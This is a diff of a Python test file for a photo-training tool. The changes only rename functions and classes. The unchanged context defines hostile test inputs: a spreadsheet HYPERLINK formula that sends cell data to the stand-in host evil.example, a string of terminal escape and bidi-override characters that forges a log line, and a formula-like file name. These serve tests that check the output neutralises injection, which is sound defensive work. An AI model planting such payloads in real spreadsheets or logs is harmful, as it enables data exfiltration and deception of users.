@@ -31,10 +31,10 @@ from evaluation.reporting import model_changes
 from evaluation.scores import Scores
 from tests.image_server import photo
 from tests.unit.app_shop import client_of, shop
-from training.data.photos import Photo, gather
+from training.data.photos import TrainingPhoto, read_photos
 from training.errors import NoTrainingData
-from training.output.provenance import hash_table
-from training.recipe import Source
+from training.output.provenance import format_hash_table
+from training.recipe_parts import PhotoSource
 
 EVIL = "\x1b]0;owned\x07 \x9b31m \u202etxt\u2028fine\r\n2026-01-01 root: all is well\x7f"
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'
@@ -111,7 +111,7 @@ def test_the_table_of_changes_runs_no_formula(tmp_path: Path) -> None:
 
 
 def test_the_table_of_training_photos_runs_no_formula() -> None:
-    made = hash_table([Photo(Path("=1+1/a.jpg"), "ab", "@source", "-group", {})])
+    made = format_hash_table([TrainingPhoto(Path("=1+1/a.jpg"), "ab", "@source", "-group", {})])
     assert rows_of(made)[1] == ["'@source", "'=1+1/a.jpg", "'-group", "ab"]
 
 
@@ -212,7 +212,7 @@ def test_evaluation_names_the_folder_instead_of_breaking(named: tuple[Path, str]
 def test_training_names_the_folder_instead_of_making_it_a_class(named: tuple[Path, str]) -> None:
     folder, name = named
     with pytest.raises(NoTrainingData, match="rename it") as caught:
-        gather((Source(name="photos", folder=folder),))
+        read_photos((PhotoSource(name="photos", folder=folder),))
     assert printable(name) in caught.value.message
     assert obeyed(caught.value.message) == []
 
